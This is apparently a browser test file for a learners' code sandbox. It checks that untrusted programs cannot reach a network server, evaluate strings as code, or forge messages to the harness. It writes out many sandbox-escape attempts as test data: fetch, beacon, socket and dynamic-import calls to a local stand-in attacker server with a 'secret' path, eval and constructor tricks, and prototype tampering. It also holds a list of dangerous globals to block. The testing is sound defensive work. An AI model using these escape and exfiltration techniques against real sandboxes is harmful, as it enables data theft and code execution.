import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startAttacker, type Attacker } from './attacker.ts';
import { inBareWorker, openSite, run, type TestSite } from './site.ts';

let site: TestSite;
let page: Page;
let attacker: Attacker;

beforeAll(async () => {
  attacker = await startAttacker();
  site = await openSite();
  page = await site.open();
}, 60_000);
afterAll(async () => {
  await site.close();
  await attacker.close();
});

/** Every name that learners would look behind, up the prototype chain as well. */
const DOORS = [
  'XMLHttpRequest',
  'WebSocket',
  'WebSocketStream',
  'WebTransport',
  'EventSource',
  'importScripts',
  'Worker',
  'SharedWorker',
  'postMessage',
  'close',
  'BroadcastChannel',
  'indexedDB',
  'caches',
  'navigator',
  'location',
  'FontFace',
  'RTCPeerConnection',
  'FileReaderSync',
  'WebAssembly',
  'Notification',
  'document',
  'window',
  'parent',
  'top',
  'onmessage',
  'webkitRequestFileSystem',
  'createImageBitmap',
];

/** A worker without our harness, which tries everything with the browser's own functions. */
const openDoors = (url: string): string => `
  const failed = [];
  const opened = [];
  const attempt = async (name, work) => {
    try { await work(); opened.push(name); } catch { failed.push(name); }
  };
  (async () => {
    const url = ${JSON.stringify(url)};
    const blob = URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }));
    await attempt('fetch', () => fetch(url, { mode: 'no-cors' }));
    await attempt('xhr', () => {
      const request = new XMLHttpRequest();
      request.open('GET', url, false);
      request.send();
    });
    await attempt('import', () => import(url));
    await attempt('importScripts', () => importScripts(url));
    await attempt('eval', () => eval('1'));
    await attempt('worker', () => new Promise((resolve, reject) => {
      const worker = new Worker(url);
      worker.onerror = reject;
      worker.onmessage = resolve;
    }));
    await attempt('data', () => import('data:text/javascript,1'));
    await attempt('blob', () => import(blob));
    // These two are made, and fail later.
    await attempt('socket', () => new WebSocket(url.replace('http', 'ws')));
    await attempt('events', () => new EventSource(url));
    setTimeout(() => postMessage({ type: 'told', origin: self.origin, failed, opened }), 200);
  })();`;

describe('what a program can reach', () => {
  it('has no doors, own or inherited', async () => {
    const { printed, message } = await run(
      page,
      `const open: string[] = [];
       for (const name of ${JSON.stringify(DOORS)}) {
         for (let holder = globalThis; holder; holder = Object.getPrototypeOf(holder)) {
           if (Reflect.getOwnPropertyDescriptor(holder, name)) open.push(name);
         }
         if ((globalThis as any)[name] !== undefined) open.push(name);
       }
       console.log(JSON.stringify(open));`,
    );
    expect(message).toBe('');
    expect(printed).toEqual(['[]']);
  });

  it('does not reach a server by any way', async () => {
    const attempts = [
      `await fetch(url)`,
      `await fetch(new Request(url))`,
      `new XMLHttpRequest().open('GET', url)`,
      `new WebSocket(url.replace('http', 'ws'))`,
      `new EventSource(url)`,
      `importScripts(url)`,
      `new Worker(url)`,
      `navigator.sendBeacon(url)`,
      `new FontFace('x', 'url(' + url + ')').load()`,
      `new RTCPeerConnection()`,
      `location.href = url`,
      `new Function('u', 'return import(u)')(url)`,
      `eval('import(url)')`,
      `(0, eval)('fetch')(url)`,
      `setTimeout('import("' + url + '")', 0)`,
    ];
    for (const attempt of attempts) {
      await run(
        page,
        `const url = ${JSON.stringify(`${attacker.url}secret`)};
         try { ${attempt}; } catch {}
         await new Promise((resolve) => setTimeout(resolve, 5));`,
      );
    }
    for (const target of [attacker.url, 'data:text/javascript,1', 'blob:null/0']) {
      await run(page, `await import(${JSON.stringify(target)}).catch(() => 0);`);
    }
    await page.waitForTimeout(300);
    expect(attacker.hits).toEqual([]);
    // The server would have noticed.
    await fetch(`${attacker.url}control`);
    expect(attacker.hits).toEqual(['CONNECTION', 'GET /control']);
  });

  it('cannot make code from text', async () => {
    const { printed } = await run(
      page,
      `const attempts = [
         () => eval('1'),
         () => new Function('return 1')(),
         () => (async () => {}).constructor('return 1')(),
         () => (function* () {}).constructor('yield 1')(),
         () => (async function* () {}).constructor('yield 1')(),
         () => Reflect.construct(Function, ['return 1'])(),
       ];
       for (const attempt of attempts) {
         try { attempt(); console.log('open'); } catch (error) { console.log((error as Error).name); }
       }`,
    );
    expect(printed).toEqual(Array(6).fill('EvalError'));
  });

  it('reaches no server even with every door open: the policy holds', async () => {
    const before = attacker.hits.length;
    const frame = `${site.server.url}runner.html`;
    const said = await inBareWorker(page, frame, openDoors(`${attacker.url}secret`));
    await page.waitForTimeout(300);
    expect(attacker.hits.slice(before)).toEqual([]);
    // Every attempt was made and failed; the worker existed.
    expect(said).toEqual({
      type: 'worker',
      behind: 0,
      message: {
        type: 'told',
        origin: 'null',
        failed: ['fetch', 'xhr', 'import', 'importScripts', 'eval', 'worker', 'data', 'blob'],
        opened: ['socket', 'events'],
      },
    });
  });

  it('keeps its trace true when built-ins are replaced', async () => {
    const { outcome, printed } = await run(
      page,
      `Array.prototype.push = () => { throw new Error('push'); };
       Array.prototype[Symbol.iterator] = () => { throw new Error('iterator'); };
       Function.prototype.call = () => { throw new Error('call'); };
       Function.prototype.bind = () => { throw new Error('bind'); };
       Reflect.apply = () => { throw new Error('apply'); };
       JSON.stringify = () => 'lie';
       EventTarget.prototype.addEventListener = () => undefined;
       MessagePort.prototype.postMessage = () => { throw new Error('post'); };
       Object.defineProperty(MessageEvent.prototype, 'data', { get: () => 'lie' });
       Object.defineProperty(Object.prototype, 'type', { set() { throw new Error('type'); } });
       await 1;
       console.log('true', 1);
       await new Promise((resolve) => setTimeout(resolve, 5));
       console.log('complete');`,
    );
    expect(outcome).toBe('finished');
    expect(printed).toEqual(['true 1', 'complete']);
  });
});

describe('who may speak', () => {
  it('hears no frame but its own', async () => {
    await page.evaluate(() => {
      const liar = document.createElement('iframe');
      liar.setAttribute('sandbox', 'allow-scripts');
      liar.id = 'liar';
      document.body.append(liar);
      for (const data of ['fermata: the frame is ready', { type: 'pong', count: 1e9 }]) {
        // As if it came from the sibling: same origin "null", another window.
        const source = liar.contentWindow;
        dispatchEvent(new MessageEvent('message', { data, origin: 'null', source }));
      }
      globalThis.fermata.renew();
    });
    const { printed, outcome } = await run(page, `console.log('mine')`);
    expect({ printed, outcome }).toEqual({ printed: ['mine'], outcome: 'finished' });
    await page.evaluate(() => document.querySelector('#liar')?.remove());
  });

  it('gives a program no port, and hears no event that it makes up', async () => {
    const { printed, outcome } = await run(
      page,
      `const heard: string[] = [];
       for (const type of ['message', 'messageerror', 'connect', 'error']) {
         addEventListener(type, (event) => { if (event.isTrusted) heard.push(type); });
       }
       const forged = new MessageEvent('message', { data: { type: 'ended', end: { outcome: 'finished' } } });
       dispatchEvent(forged);
       const promise = Promise.resolve();
       dispatchEvent(new PromiseRejectionEvent('unhandledrejection', { promise, reason: 'forged' }));
       const { port1, port2 } = new MessageChannel();
       port1.postMessage({ type: 'ended', runId: '', end: { outcome: 'threw', preview: 0 } });
       port2.close();
       await new Promise((resolve) => setTimeout(resolve, 20));
       console.log(JSON.stringify(heard));`,
    );
    expect(outcome).toBe('finished');
    expect(printed).toEqual(['[]']);
  });

  it('refuses to run when the frame is opened by itself', async () => {
    const alone = await site.browser.newPage();
    await alone.goto(`${site.server.url}runner.html`);
    expect(await alone.textContent('body')).toContain('does nothing by itself');
    await alone.close();
  });

  it('refuses to run in a frame of our own origin', async () => {
    const spoken = await page.evaluate(async (url) => {
      const heard: unknown[] = [];
      addEventListener('message', ({ data }) => heard.push(data));
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
      });
      await new Promise((resolve) => {
        setTimeout(resolve, 200);
      });
      const text = frame.contentDocument?.body.textContent ?? '';
      frame.remove();
      return { heard, text };
    }, `${site.server.url}runner.html`);
    expect(spoken.heard).toEqual([]);
    expect(spoken.text).toContain('does nothing by itself');
  });
});
